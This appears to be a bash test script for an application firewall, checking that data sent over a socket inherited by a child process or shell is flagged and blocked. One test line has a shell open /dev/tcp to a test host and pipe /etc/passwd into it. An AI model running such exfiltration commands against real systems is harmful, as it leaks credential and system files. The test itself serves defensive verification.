# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L22: an allowed program's child becomes another program and uses the inherited socket.
. /snitch/leak/lib/leak.sh

leak_begin "allow $A any"
for to in $F4 $F6; do
	: >$LOG
	go way $A tcp $to 80 --fork --exec $EVIL --data leak-$to
	t_seen "$to: what the child sends is a question" "$(flow_of tcp 80)"
	t_seen "$to: of the child's program" "^OWNER .*exe=$EVIL "
	tell deny all
	ended way
	t_ok "$to: it never arrives" eval "! far_got tcp 80 leak"
done
# A shell's redirection is the same.
cp /bin/bash $DIR/shell
leak_policy "allow $DIR/shell any"
: >$LOG
go way $DIR/shell -c "exec 3<>/dev/tcp/$F4/80; cat /etc/hostname /etc/passwd >&3; :"
t_seen "cat by a shell's socket is a question" '^OWNER .*exe=/usr/bin/cat |^OWNER .*exe=/bin/cat '
tell deny all
ended way
t_ok "it never arrives" eval "! far_got tcp 80 root"
go way $A tcp $F4 80 --fork --exec $EVIL --data nobody
leak_policy "allow $A any"
: >$LOG
go way $A tcp $F4 80 --fork --exec $EVIL --data permitted
seen "$(flow_of tcp 80)"
tell allow all
t_ok "allowed, it does" wait_for 5 far_got tcp 80 permitted
leak_done
